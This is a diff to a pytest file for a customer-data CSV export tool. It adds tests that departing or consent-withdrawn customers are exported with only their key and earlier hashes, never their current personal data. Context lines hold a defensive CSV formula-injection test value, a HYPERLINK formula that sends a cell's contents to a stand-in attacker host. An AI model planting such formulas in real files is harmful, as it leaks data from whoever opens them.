@@ -140,8 +140,8 @@ def test_next_run_writes_one_delta_of_entered_left_changed(workspace):
     deltas = sorted(p for p in exported(ws) if p.name.endswith("-delta.csv"))
     assert len(deltas) == 2
     got = {r["customer_id"]: (r["change"], r["FIRST_NAME"]) for r in rows(deltas[-1])}
-    assert got == {
-        "c00001": ("left", "Name1"),
+    assert got == {  # a leaver is written as exported before: its key and recorded hashes
+        "c00001": ("left", None),
         "c00002": ("changed", "Renamed"),
         "c00006": ("entered", "Name6"),
     }
@@ -342,3 +342,27 @@ def test_formulas_in_csv_cells_are_escaped_only_when_asked(workspace, escape):
     else:
         assert names == {'=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", "Ann"}
     assert ",-5.0" in text  # a number is never escaped
+
+
+@pytest.mark.parametrize("pii", ["hashed", "raw"])
+def test_a_leaver_who_withdrew_consent_is_not_written_again(workspace, pii):
+    """A profile leaving (here: it withdrew its consent and moved address) is written with its
+    key and the hashes exported for it before, never its current values: no new address, no
+    attributes, and with `pii: raw` no raw value at all."""
+    ws = files_ws(workspace, PEOPLE, pii=pii, full="never")
+    apply(ws)
+    people = [dict(p) for p in PEOPLE]
+    people[0] |= {"email_consent": False, "email": "new-address@example.com"}  # c00001
+    ws.set_profiles(people)
+    apply(ws)
+    deltas = sorted(p for p in exported(ws) if p.name.endswith("-delta.csv"))
+    (left,) = [r for r in rows(deltas[-1]) if r["change"] == "left"]
+    assert left["customer_id"] == "c00001" and left["FIRST_NAME"] is None
+    assert left["LTV"] is None
+    text = deltas[-1].read_text()
+    assert "new-address" not in text and "user1@example.com" not in text
+    assert hashlib.sha256(b"new-address@example.com").hexdigest() not in text
+    if pii == "hashed":  # what was exported for it before: it can be matched downstream
+        assert left["email_sha256"] == hashlib.sha256(b"user1@example.com").hexdigest()
+    else:
+        assert left["email"] is None
